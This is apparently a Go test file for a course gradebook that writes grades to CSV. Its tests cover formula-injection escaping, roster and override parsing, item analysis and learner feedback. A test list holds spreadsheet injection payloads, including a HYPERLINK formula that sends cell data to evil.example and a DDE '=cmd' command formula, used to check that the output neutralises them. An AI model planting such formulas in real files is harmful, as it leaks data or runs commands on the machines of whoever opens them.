package gradebook

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// sub is a readable submission of learner with one literal call per
// exercise id in preds.
func sub(learner, path string, preds map[string]float64) Submission {
	s := Submission{Path: path, Learner: learner, IdentityFrom: FromFolder, Found: Found{Course: true}}
	for id, v := range preds {
		s.Found.Calls = append(s.Found.Calls, Call{Cell: 1, Line: 1, ID: id, Value: v, Form: FormLiteral, Arg: strconv.FormatFloat(v, 'g', -1, 64)})
	}
	return s
}

func gradeSubs(t *testing.T, subs []Submission, opt Options) *Gradebook {
	t.Helper()
	if opt.ModTime == nil {
		opt.ModTime = fixedModTime
	}
	gb, err := Grade(testGrader(t), subs, opt)
	require.NoError(t, err)
	return gb
}

func totalOf(t *testing.T, gb *Gradebook, learner string) Total {
	t.Helper()
	for _, tot := range gb.Totals {
		if tot.Learner == learner {
			return tot
		}
	}
	require.Failf(t, "no total", "learner %q", learner)
	return Total{}
}

// hostile are learner names a spreadsheet would run as formulas.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", "=cmd|' /C calc'!A0"}

// TestCSVInjection grades learners with hostile names and an unreadable
// prediction written as a formula, and reads every CSV back: no text cell
// starts with a formula character, each such name is written with a
// leading quote, and numbers (a negative prediction) stay numbers.
func TestCSVInjection(t *testing.T) {
	var subs []Submission
	for i, name := range hostile {
		s := sub(name, "subs/"+strconv.Itoa(i)+"/03-strided.ipynb", map[string]float64{"03-strided/efficiency-stride-2": -0.5})
		s.Found.Calls = append(s.Found.Calls, Call{Cell: 2, Line: 1, ID: "03-strided/sectors-stride-32", Arg: "=1+1", Form: FormUnreadable, Problem: "a formula"})
		subs = append(subs, s)
	}
	gb := gradeSubs(t, subs, Options{Lessons: []string{"03-strided"}, Assignment: "@assignment"})
	outputs := map[string]func(*bytes.Buffer) error{
		GradebookCSV: func(b *bytes.Buffer) error { return gb.WriteCSV(b) },
		TotalsCSV:    func(b *bytes.Buffer) error { return gb.WriteTotalsCSV(b) },
		ItemsCSV:     func(b *bytes.Buffer) error { return gb.WriteItemsCSV(b) },
	}
	for name, write := range outputs {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, write(&b))
			recs, err := csv.NewReader(&b).ReadAll()
			require.NoError(t, err)
			for _, rec := range recs {
				for _, f := range rec {
					if _, err := strconv.ParseFloat(f, 64); err == nil {
						continue // a number the gradebook wrote
					}
					assert.False(t, formulaStart(f), "cell %q of %q would run as a formula", f, rec)
				}
			}
		})
	}
	var b bytes.Buffer
	require.NoError(t, gb.WriteCSV(&b))
	raw := b.String()
	recs, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	learners := map[string]bool{}
	for _, rec := range recs[1:] {
		learners[rec[0]] = true
		if rec[2] == "03-strided/efficiency-stride-2" {
			assert.Equal(t, "-0.5", rec[4], "a negative prediction stays a number")
		}
		if rec[2] == "03-strided/sectors-stride-32" {
			assert.Equal(t, "'=1+1", rec[4], "the unreadable prediction as written, neutralised")
		}
	}
	for _, name := range hostile {
		assert.True(t, learners["'"+name], "%q written as '%s", name, name)
	}
	assert.Contains(t, raw, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, "escaped and quoted")
}

// FuzzCSVCell writes any text as a cell and reads it back: the reader gets
// the text, with a quote in front exactly when it would start a formula.
func FuzzCSVCell(f *testing.F) {
	for _, s := range append(hostile, "", "plain", "a,b", `"q"`, "line\nbreak", " lead", "-0.5", "'x") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		cw := &csvWriter{w: &b}
		cw.write([]cell{txt(s), num(-1)})
		require.NoError(t, cw.err)
		r := csv.NewReader(&b)
		r.LazyQuotes = false
		rec, err := r.Read()
		require.NoError(t, err, "%q", b.String())
		require.Len(t, rec, 2)
		want := SafeText(s)
		// encoding/csv reads \r\n inside a quoted field as \n.
		want = strings.ReplaceAll(want, "\r\n", "\n")
		assert.Equal(t, want, rec[0])
		assert.False(t, formulaStart(rec[0]))
		assert.Equal(t, "-1", rec[1])
	})
}

// TestPointsPossible: the points possible are the assignment's, not what
// the batch touched. A learner who submitted 03-strided only, graded on
// 01-sectors and 03-strided, has 7 points possible: 01-sectors' three
// exercises of 1 point, 03-strided's 1 + 1 + 2 (questions.json).
func TestPointsPossible(t *testing.T) {
	subs := []Submission{sub("ada", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32})}
	gb := gradeSubs(t, subs, Options{Lessons: []string{"01-sectors", "03-strided"}})
	assert.Equal(t, 7.0, gb.PointsPossible)
	tot := totalOf(t, gb, "ada")
	assert.Equal(t, 7.0, tot.MaxPoints)
	assert.Equal(t, 1.0, tot.Points)
	assert.Equal(t, 14.29, tot.Percent, "1/7 = 14.2857%")
	assert.Equal(t, "01-sectors+03-strided", tot.Assignment, "the default assignment name")

	all := gradeSubs(t, subs, Options{})
	assert.Equal(t, testGrader(t).Bank().LessonIDs(), all.Lessons, "no lessons named: the whole bank")
	assert.Greater(t, all.PointsPossible, gb.PointsPossible)
}

func TestReadRoster(t *testing.T) {
	tests := []struct {
		name, in string
		want     []string
		err      string
	}{
		{"one id a line, comments and blanks", "# class\nada\n\n  bob  \n#carl\nada\n", []string{"ada", "bob"}, ""},
		{"a BOM and CRLF", "\uFEFFada\r\nbob\r\n", []string{"ada", "bob"}, ""},
		{"CSV with an id column", "name,id,email\nAda L,ada,a@x\n# note\nBob B,bob,b@x\n", []string{"ada", "bob"}, ""},
		{"CSV with a Learner column", "Learner,section\nada,1\n", []string{"ada"}, ""},
		{"CSV, a short row", "name,id\nAda\nBob,bob\n", []string{"bob"}, ""},
		{"CSV without an id column", "# x\nname,email\nada,a@x\n", nil, "line 2: header \"name,email\" has no id column"},
		{"a hostile id is an id", "=1+1\n", []string{"=1+1"}, ""},
		{"not UTF-8", "ada\xff\n", nil, "not UTF-8"},
		{"empty", "# nobody\n", nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ReadRoster(strings.NewReader(tt.in), "roster.txt")
			if tt.err != "" {
				require.Error(t, err)
				assert.Contains(t, err.Error(), "gradebook: roster roster.txt")
				assert.Contains(t, err.Error(), tt.err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func FuzzReadRoster(f *testing.F) {
	for _, s := range []string{"ada\nbob\n", "# c\nid,name\nada,A\n", "name,id\n\"a,b\",x\n", "x,\"unterminated\n", "\uFEFF\r\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		ids, err := ReadRoster(strings.NewReader(s), "f")
		if err != nil {
			assert.Contains(t, err.Error(), "gradebook: roster f")
			return
		}
		seen := map[string]bool{}
		for _, id := range ids {
			assert.NotEmpty(t, id)
			assert.Equal(t, strings.TrimSpace(id), id)
			assert.False(t, seen[id], "repeated %q", id)
			seen[id] = true
		}
	})
}

// TestRosterStatus: with a roster, a learner on it without a notebook has
// 0 of the points possible and the status missing; one found but not on
// it is graded and flagged.
func TestRosterStatus(t *testing.T) {
	subs := []Submission{
		sub("ada", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32, "03-strided/efficiency-stride-2": 0.5, "03-strided/slowdown-stride-32": 16}),
		sub("eve", "eve/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32}),
		{Path: "bad/03-strided.ipynb", Learner: "bad", IdentityFrom: FromFolder, Problem: "malformed JSON"},
	}
	gb := gradeSubs(t, subs, Options{Lessons: []string{"03-strided"}, Roster: []string{"ada", "zed", "bad"}})
	tests := []struct {
		learner string
		status  LearnerStatus
		points  float64
		flag    string
	}{
		// ada: 1 + 1 + 2 = 4 of 4, every exercise answered.
		{"ada", StatusGraded, 4, ""},
		{"zed", StatusMissing, 0, "no notebook submitted"},
		{"eve", StatusFlagged, 1, "not on roster"},
		{"bad", StatusUnreadable, 0, "1 of 1 notebook could not be read"},
	}
	for _, tt := range tests {
		t.Run(tt.learner, func(t *testing.T) {
			tot := totalOf(t, gb, tt.learner)
			assert.Equal(t, tt.status, tot.Status)
			assert.Equal(t, tt.points, tot.Points)
			assert.Equal(t, 4.0, tot.MaxPoints, "03-strided: 1 + 1 + 2")
			if tt.flag != "" {
				assert.Contains(t, strings.Join(tot.Flags, "; "), tt.flag)
			} else {
				assert.Empty(t, tot.Flags)
			}
		})
	}
	t.Run("a roster's id matches a folder whatever its case", func(t *testing.T) {
		gb := gradeSubs(t, subs, Options{Lessons: []string{"03-strided"}, Roster: []string{"Ada", "EVE", "bad"}})
		var names []string
		for _, tot := range gb.Totals {
			names = append(names, tot.Learner)
		}
		assert.Equal(t, []string{"ada", "bad", "eve"}, names, "no missing Ada beside the graded ada")
		assert.Equal(t, StatusGraded, totalOf(t, gb, "ada").Status)
		assert.NotContains(t, totalOf(t, gb, "eve").Flags, "not on roster")
	})
	t.Run("eve is also partial, and says so", func(t *testing.T) {
		assert.Contains(t, totalOf(t, gb, "eve").Flags, "exercises: 2 missing")
	})
	t.Run("zed has a missing row for every exercise", func(t *testing.T) {
		n := 0
		for _, r := range gb.Rows {
			if r.Learner == "zed" {
				n++
				assert.Equal(t, Missing, r.Status)
				assert.Contains(t, r.Note, "no notebook submitted")
			}
		}
		assert.Equal(t, 3, n, "03-strided has 3 exercises")
	})
	t.Run("times", func(t *testing.T) {
		assert.Equal(t, "2026-12-01T10:00:00Z", totalOf(t, gb, "ada").Submitted)
		assert.Empty(t, totalOf(t, gb, "zed").Submitted)
	})
}

func TestReadOverrides(t *testing.T) {
	tests := []struct {
		name, in string
		want     []Override
		err      string
	}{
		{"header, comment, with and without a reason",
			"learner,exercise,points,reason\n# regrade\nada,03-strided/sectors-stride-32,1,counted by hand\nbob, 03-strided/efficiency-stride-2 ,0.5\n",
			[]Override{{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: 1, Reason: "counted by hand", File: "o.csv", Line: 3},
				{Learner: "bob", ID: "03-strided/efficiency-stride-2", Points: 0.5, File: "o.csv", Line: 4}}, ""},
		{"points not a number", "ada,x,one,r\n", nil, "o.csv line 1: points \"one\": want a number"},
		{"points NaN", "learner,exercise,points\nada,x,NaN\n", nil, "line 2: points \"NaN\""},
		{"too few fields", "ada,x\n", nil, "line 1: 2 fields"},
		{"too many fields", "ada,x,1,r,extra\n", nil, "line 1: 5 fields"},
		{"no learner", ",x,1\n", nil, "line 1: want a learner and an exercise id"},
		{"a bad quote", "ada,\"x,1\n", nil, "o.csv line 1"},
		{"empty", "", nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ReadOverrides(strings.NewReader(tt.in), "o.csv")
			if tt.err != "" {
				require.Error(t, err)
				assert.Contains(t, err.Error(), "gradebook: overrides ")
				assert.Contains(t, err.Error(), tt.err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func FuzzReadOverrides(f *testing.F) {
	for _, s := range []string{"learner,exercise,points,reason\nada,03-strided/sectors-stride-32,1,r\n", "#c\nada,x,-1\n", "a,b,1e309\n", "\"a\nb\",x,1\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		os, err := ReadOverrides(strings.NewReader(s), "f")
		if err != nil {
			assert.Contains(t, err.Error(), "gradebook: overrides f")
			return
		}
		for _, o := range os {
			assert.Positive(t, o.Line)
			assert.NotEmpty(t, o.Learner)
			assert.NotEmpty(t, o.ID)
			assert.False(t, o.Points != o.Points, "NaN points")
		}
	})
}

// TestOverrides: an override sets the points after grading, shows in the
// row's note and the feedback, survives a regrade, and a bad one is an
// error naming its line.
func TestOverrides(t *testing.T) {
	subs := []Submission{
		sub("ada", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 4}),
		sub("=evil", "evil/03-strided.ipynb", nil),
	}
	opt := Options{Lessons: []string{"03-strided"}, Overrides: []Override{
		{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: 1, Reason: "counted warps, said so", File: "o.csv", Line: 2},
		{Learner: "'=evil", ID: "03-strided/slowdown-stride-32", Points: 1.5, File: "o.csv", Line: 3},
	}}
	gb := gradeSubs(t, subs, opt)
	// ada: 4 is wrong (32 sectors), set to 1 of 1 by hand.
	tot := totalOf(t, gb, "ada")
	assert.Equal(t, 1.0, tot.Points)
	var row Row
	for _, r := range gb.Rows {
		if r.Learner == "ada" && r.ID == "03-strided/sectors-stride-32" {
			row = r
		}
	}
	assert.Equal(t, Wrong, row.Status, "the verdict stays the grader's")
	assert.Contains(t, row.Note, "points set by the instructor: 1 of 1 — counted warps, said so")
	assert.Contains(t, gb.Feedback("ada"), "points set by the instructor: 1 of 1 — counted warps, said so")
	// The name as totals.csv shows it ('=evil) is the learner =evil.
	assert.Equal(t, 1.5, totalOf(t, gb, "=evil").Points)
	assert.Equal(t, 2, func() int {
		n := 0
		for _, it := range gb.Items {
			n += it.Overridden
		}
		return n
	}())

	t.Run("a regrade gives the same gradebook", func(t *testing.T) {
		var a, b bytes.Buffer
		require.NoError(t, gb.WriteCSV(&a))
		require.NoError(t, gradeSubs(t, subs, opt).WriteCSV(&b))
		assert.Equal(t, a.String(), b.String())
	})

	bad := []struct {
		name string
		o    Override
		err  string
	}{
		{"unknown learner", Override{Learner: "nobody", ID: "03-strided/sectors-stride-32", Line: 7}, `line 7: learner "nobody" is not in the class`},
		{"an exercise of another lesson", Override{Learner: "ada", ID: "01-sectors/sectors-float", Line: 7}, `line 7: exercise "01-sectors/sectors-float" is not an exercise of the lessons graded`},
		{"over the maximum", Override{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: 2, Line: 7}, "line 7: points 2 for 03-strided/sectors-stride-32: want 0 to 1"},
		{"negative", Override{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: -1, Line: 7}, "line 7: points -1 for 03-strided/sectors-stride-32: want 0 to 1"},
	}
	for _, tt := range bad {
		t.Run(tt.name, func(t *testing.T) {
			tt.o.File = "o.csv"
			_, err := Grade(testGrader(t), subs, Options{Lessons: []string{"03-strided"}, Overrides: []Override{tt.o}, ModTime: fixedModTime})
			require.Error(t, err)
			assert.Contains(t, err.Error(), "gradebook: overrides o.csv "+tt.err)
		})
	}
	t.Run("twice", func(t *testing.T) {
		o := Override{Learner: "ada", ID: "03-strided/sectors-stride-32", File: "o.csv", Line: 2}
		o2 := o
		o2.Line = 5
		_, err := Grade(testGrader(t), subs, Options{Lessons: []string{"03-strided"}, Overrides: []Override{o, o2}})
		require.Error(t, err)
		assert.Contains(t, err.Error(), "line 5: ada's 03-strided/sectors-stride-32 is already set on line 2")
	})
}

// TestItemAnalysis: four learners on 03-strided/sectors-stride-32 (32
// sectors): 1024 twice (bytes: 32 sectors × 32 bytes), 32 and 4; a fifth
// submits nothing for it.
func TestItemAnalysis(t *testing.T) {
	const id = "03-strided/sectors-stride-32"
	subs := []Submission{
		sub("a", "a/03-strided.ipynb", map[string]float64{id: 1024}),
		sub("b", "b/03-strided.ipynb", map[string]float64{id: 1024}),
		sub("c", "c/03-strided.ipynb", map[string]float64{id: 32}),
		sub("d", "d/03-strided.ipynb", map[string]float64{id: 4}),
		sub("e", "e/03-strided.ipynb", nil),
	}
	gb := gradeSubs(t, subs, Options{Lessons: []string{"03-strided"}})
	var it Item
	for _, i := range gb.Items {
		if i.ID == id {
			it = i
		}
	}
	assert.Equal(t, 5, it.Learners)
	assert.Equal(t, 4, it.Answered)
	assert.Equal(t, 1, it.Right)
	assert.Equal(t, 3, it.Wrong)
	assert.Equal(t, 1, it.Missing)
	require.NotNil(t, it.Median)
	assert.Equal(t, 528.0, *it.Median, "median of 4, 32, 1024, 1024: (32 + 1024) / 2")
	require.NotNil(t, it.CommonWrong)
	assert.Equal(t, 1024.0, *it.CommonWrong)
	assert.Equal(t, 2, it.CommonWrongCount)
	assert.Contains(t, it.Misconception, "counts bytes")
	assert.Contains(t, gb.Summary(), "| "+id+" | 1 | 4 of 5 | 1 | 528 |")
}

// TestFeedbackLayout: the feedback opens with the score and what to
// review; a right answer has no explanation, a wrong one has it collapsed.
func TestFeedbackLayout(t *testing.T) {
	subs := []Submission{sub("<b>ada</b>", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32, "03-strided/efficiency-stride-2": 0.25})}
	gb := gradeSubs(t, subs, Options{Lessons: []string{"03-strided"}})
	fb := gb.Feedback("<b>ada</b>")
	lines := strings.Split(fb, "\n")
	assert.Equal(t, "# Feedback for &lt;b&gt;ada&lt;/b&gt;", lines[0], "learner text is not HTML")
	// 1 of 4: sectors-stride-32 right (1 point) of 1 + 1 + 2.
	assert.Equal(t, "**Score: 1 of 4 points (25%)** on 03-strided.", lines[2])
	assert.Equal(t, "To review: 03-strided/efficiency-stride-2 (wrong); 1 exercise without a prediction (lessons 03-strided).", lines[4])
	right, wrong, _ := strings.Cut(fb, "## 03-strided/efficiency-stride-2")
	assert.NotContains(t, right, "<details>", "no explanation for a right answer")
	assert.Contains(t, wrong, "<details><summary>Explanation</summary>")
	assert.Equal(t, 1, strings.Count(fb, "<details>"))
}

// Intake's marks reach the totals: a possible copy or a duplicate notebook
// makes the learner flagged with intake's sentence; a file intake could not
// read counts as unreadable through its Problem, not as a flag.
func TestStatusFromIntakeFlags(t *testing.T) {
	rows := []Row{{Status: Right}}
	copied := &Submission{Path: "subs/ada/01-sectors.ipynb"}
	copied.flag(FlagPossibleCopy, "possible copy: metadata names bob")
	st, flags := learnerStatus(rows, []*Submission{copied}, nil)
	assert.Equal(t, StatusFlagged, st)
	assert.Equal(t, []string{"possible copy: metadata names bob"}, flags)

	dup := &Submission{Path: "subs/ada/01-sectors-Copy1.ipynb", Role: RoleDuplicate}
	dup.flag(FlagDuplicate, "duplicate of 01-sectors.ipynb")
	st, _ = learnerStatus(rows, []*Submission{{Path: "subs/ada/01-sectors.ipynb"}, dup}, nil)
	assert.Equal(t, StatusFlagged, st)

	pipe := &Submission{Path: "subs/ada/02-coalescing.ipynb", Problem: "not a regular file (named pipe): skipped"}
	pipe.flag(FlagUnreadable, pipe.Problem)
	pipe.flag(FlagNotRegular, pipe.Problem)
	st, flags = learnerStatus(rows, []*Submission{pipe}, nil)
	assert.Equal(t, StatusUnreadable, st)
	assert.NotContains(t, flags, pipe.Problem, "an unreadable file is counted, not listed as a flag")
}
